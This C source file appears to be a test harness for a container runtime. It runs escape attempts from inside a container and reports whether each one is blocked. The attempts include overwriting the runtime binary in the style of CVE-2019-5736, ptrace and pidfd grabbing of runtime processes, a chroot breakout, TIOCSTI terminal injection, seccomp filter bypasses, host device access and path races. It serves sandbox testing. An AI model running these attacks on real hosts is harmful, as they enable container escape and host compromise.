/* What an attacker inside a container would run: one attack for each word. Prints "blocked: WHY" or "escaped:
 * WHAT", and ends with 0 or 1; 2 says that the attack could not be tried. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int verdict(int escaped, const char *what) {
    printf("%s: %s (%s)\n", escaped ? "escaped" : "blocked", what, strerror(errno));
    return escaped;
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* tries what it can on every process that is the runtime's, for some seconds: see CVE-2019-5736 */
static int runtime(double seconds) {
    static const char *const secrets[] = {"mem", "maps", "root", "cwd", "fd/3", "fd/4", "environ", "exe"};
    int seen = 0, opened = 0, written = 0;
    printf("ready\n");
    fflush(stdout);
    for (double end = now() + seconds; now() < end;) {
        for (int pid = 2; pid < 400; pid++) {
            char path[64], name[32] = "";
            snprintf(path, sizeof path, "/proc/%d/comm", pid);
            int comm = open(path, O_RDONLY);
            if (comm < 0)
                continue;
            if (read(comm, name, sizeof name - 1) < 0)
                name[0] = 0;
            close(comm);
            if (strncmp(name, "containerlib", 12))
                continue;
            seen++;
            for (size_t i = 0; i < sizeof secrets / sizeof *secrets; i++) {
                snprintf(path, sizeof path, "/proc/%d/%s", pid, secrets[i]);
                int fd = open(path, strcmp(secrets[i], "exe") ? O_RDONLY : O_PATH);
                if (fd < 0)
                    continue;
                /* it may have become the user's program meanwhile, which is no secret */
                snprintf(path, sizeof path, "/proc/%d/comm", pid);
                comm = open(path, O_RDONLY);
                memset(name, 0, sizeof name);
                if (comm >= 0 && read(comm, name, sizeof name - 1) > 0 && !strncmp(name, "containerlib", 12))
                    opened++;
                if (comm >= 0)
                    close(comm);
                snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
                char target[256] = "";
                if (readlink(path, target, sizeof target - 1) > 0 && strstr(target, "containerlib-helper")) {
                    int exe = open(path, O_WRONLY);
                    if (exe >= 0 && write(exe, "#!/bin/evil\n", 12) > 0)
                        written++;
                    if (exe >= 0)
                        close(exe);
                }
                close(fd);
            }
        }
    }
    printf("seen %d opened %d written %d\n", seen, opened, written);
    return 0;
}

/* may this process look into that one? 1, 0, or -1 where it is gone */
static int traces(int pid) {
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)4096, 1};
    if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
        return 1;
    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
    int taken = pidfd < 0 ? -1 : (int)syscall(SYS_pidfd_getfd, pidfd, 0, 0);
    int known = taken >= 0 || (pidfd >= 0 && errno == EBADF);
    if (taken >= 0)
        close(taken);
    if (pidfd >= 0)
        close(pidfd);
    if (known)
        return 1;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return 1;
    }
    return errno == ESRCH ? -1 : 0;
}

static int is_runtime(int pid) {
    char path[64], name[32] = "";
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int comm = open(path, O_RDONLY);
    int size = comm < 0 ? -1 : (int)read(comm, name, sizeof name - 1);
    if (comm >= 0)
        close(comm);
    return size > 0 && !strncmp(name, "containerlib", 12);
}

/* tries for some seconds to trace every process that is still the runtime's, or to go where it is */
static int grab(double seconds) {
    static const char *const secrets[] = {"maps", "environ", "auxv", "root", "cwd", "fd/3", "ns/mnt"};
    long seen = 0, grabbed = 0;
    printf("ready\n");
    fflush(stdout);
    for (double end = now() + seconds; now() < end;) {
        for (int pid = 1; pid < 400; pid++) {
            if (pid == getpid() || !is_runtime(pid))
                continue;
            int known = traces(pid) == 1;
            for (size_t i = 0; i < sizeof secrets / sizeof *secrets && !known; i++) {
                char path[64];
                snprintf(path, sizeof path, "/proc/%d/%s", pid, secrets[i]);
                int fd = open(path, O_RDONLY);
                char byte;
                /* what says something of its memory can be opened when that is gone, and is empty then */
                known = fd >= 0 && (read(fd, &byte, 1) > 0 || !strchr("mea", *secrets[i]));
                if (fd >= 0)
                    close(fd);
            }
            /* it may have become the user's program meanwhile, which is no secret */
            if (is_runtime(pid)) {
                seen++;
                grabbed += known;
            }
        }
    }
    printf("seen %ld grabbed %ld\n", seen, grabbed);
    return 0;
}

/* what a process has open, one line each: the number and what it is */
static int files(const char *pid) {
    char path[300], target[256];
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *directory = opendir(path);
    if (!directory)
        return verdict(0, "descriptors of another process");
    for (struct dirent *entry; (entry = readdir(directory));) {
        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
        ssize_t size = readlink(path, target, sizeof target - 1);
        target[size < 0 ? 0 : size] = 0;
        printf("%s %s\n", entry->d_name, target);
    }
    return 0;
}

static int keyring(void) {
    long serial = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0, 0, 0);
    printf("%ld\n", serial);
    return serial < 0 ? 2 : 0;
}

/* a key of the caller's session, by its number: only who has it in a keyring of its own may read it */
static int read_key(long key) {
    char secret[64] = "";
    long size = syscall(SYS_keyctl, KEYCTL_READ, key, secret, sizeof secret);
    return verdict(size > 0, "a key of the caller's session keyring");
}

/* a call whose argument the kernel does not look at, but a filter does */
static int ask_for_parent(uint64_t argument) {
    long answer = syscall(SYS_getppid, argument, argument);
    puts(answer < 0 ? "refused" : "allowed");
    return 0;
}

#ifdef __x86_64__
/* socketcall(SYS_SOCKET, {family, SOCK_STREAM, 0}) as an i386 program makes it */
static int opened_by_socketcall(unsigned family) {
    unsigned *arguments =
        mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (arguments == MAP_FAILED)
        return 0;
    arguments[0] = family, arguments[1] = SOCK_STREAM;
    int answer;
    __asm__ volatile("int $0x80"
                     : "=a"(answer)
                     : "a"(102), "b"(1), "c"(arguments)
                     : "memory", "r8", "r9", "r10", "r11");
    return answer >= 0;
}
#else
static int opened_by_socketcall(unsigned family) {
    (void)family;
    return 0;
}
#endif

/* what the default profile compares an argument for, with bits in its upper half, which the kernel does not
 * read */
static int upper_bits(void) {
    int escaped = 0;
    for (int bit = 31; bit < 64; bit++) {
        uint64_t upper = bit < 32 ? 0 : (uint64_t)1 << bit;
        escaped |= syscall(SYS_socket, AF_ALG | upper, SOCK_SEQPACKET, 0) >= 0 && verdict(1, "AF_ALG");
        escaped |= syscall(SYS_socket, AF_VSOCK | upper, SOCK_STREAM, 0) >= 0 && verdict(1, "AF_VSOCK");
        escaped |= syscall(SYS_personality, ADDR_NO_RANDOMIZE | upper) >= 0 && verdict(1, "personality");
        pid_t child = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD | upper, 0, 0, 0, 0);
        if (!child)
            _exit(0);
        escaped |= child > 0 && verdict(1, "a user namespace");
    }
    escaped |= opened_by_socketcall(AF_VSOCK) && verdict(1, "AF_VSOCK by socketcall");
    escaped |= opened_by_socketcall(AF_ALG) && verdict(1, "AF_ALG by socketcall");
    return escaped ? 1 : verdict(0, "every call");
}

static int tiocsti(void) {
    ioctl(0, TIOCSCTTY, 1);
    int pushed = ioctl(0, TIOCSTI, "x");
    return verdict(pushed == 0, "TIOCSTI on standard input");
}

static int no_terminal(void) {
    return verdict(open("/dev/tty", O_RDWR) >= 0, "/dev/tty of the caller");
}

static int disk(int type, unsigned major_, unsigned minor_) {
    if (mknod("/tmp/disk", (mode_t)type | 0600, makedev(major_, minor_)) < 0) {
        perror("mknod");
        return 2;
    }
    return verdict(open("/tmp/disk", O_RDONLY) >= 0, "the host's device");
}

/* every open descriptor but stdio, and what it is */
static int descriptors(void) {
    DIR *directory = opendir("/proc/self/fd");
    int own = dirfd(directory), found = 0;
    for (struct dirent *entry; (entry = readdir(directory));) {
        int fd = atoi(entry->d_name);
        if (entry->d_name[0] == '.' || fd <= 2 || fd == own)
            continue;
        printf("descriptor %d\n", fd);
        found++;
    }
    return found != 0;
}

/* exchanges two names for some seconds: the attacker's half of every race on a path */
static int exchange(const char *a, const char *b, double seconds) {
    long count = 0;
    for (double end = now() + seconds; now() < end; count++)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0)
            return 2;
    printf("exchanged %ld\n", count);
    return 0;
}

static int death(void) {
    prctl(PR_SET_PDEATHSIG, 0);
    printf("ready\n");
    fflush(stdout);
    return pause();
}

/* upwards from a working directory outside of a second root: is `file` of the host's there? */
static int leave_root(const char *directory, const char *file) {
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    if (outside < 0 || chroot(directory) < 0 || fchdir(outside) < 0)
        return 2;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return 2;
    if (chroot(".") < 0)
        return 2;
    return verdict(access(file, F_OK) == 0, file);
}

/* takes the root away, enters its own mount namespace anew, and prints what is mounted there then */
static int uncover(void) {
    int proc = open("/proc", O_RDONLY | O_DIRECTORY), namespace = open("/proc/self/ns/mnt", O_RDONLY);
    if (proc < 0 || namespace < 0 || umount2("/", MNT_DETACH) < 0 || setns(namespace, CLONE_NEWNS) < 0)
        return verdict(0, "the root");
    char text[4096];
    int fd = openat(proc, "self/mountinfo", O_RDONLY);
    for (ssize_t size; (size = read(fd, text, sizeof text)) > 0;)
        fwrite(text, 1, (size_t)size, stdout);
    return 0;
}

int main(int argc, char **argv) {
    const char *word = argc > 1 ? argv[1] : "";
    if (!strcmp(word, "runtime"))
        return runtime(atof(argv[2]));
    if (!strcmp(word, "grab"))
        return grab(atof(argv[2]));
    if (!strcmp(word, "files"))
        return files(argv[2]);
    if (!strcmp(word, "keyring"))
        return keyring();
    if (!strcmp(word, "read-key"))
        return read_key(atol(argv[2]));
    if (!strcmp(word, "getppid"))
        return ask_for_parent(strtoull(argv[2], NULL, 10));
    if (!strcmp(word, "upper-bits"))
        return upper_bits();
    if (!strcmp(word, "tiocsti"))
        return tiocsti();
    if (!strcmp(word, "tty"))
        return no_terminal();
    if (!strcmp(word, "disk"))
        return disk(atoi(argv[2]), (unsigned)atoi(argv[3]), (unsigned)atoi(argv[4]));
    if (!strcmp(word, "descriptors"))
        return descriptors();
    if (!strcmp(word, "exchange"))
        return exchange(argv[2], argv[3], atof(argv[4]));
    if (!strcmp(word, "death"))
        return death();
    if (!strcmp(word, "leave-root"))
        return leave_root(argv[2], argv[3]);
    if (!strcmp(word, "uncover"))
        return uncover();
    return 2;
}
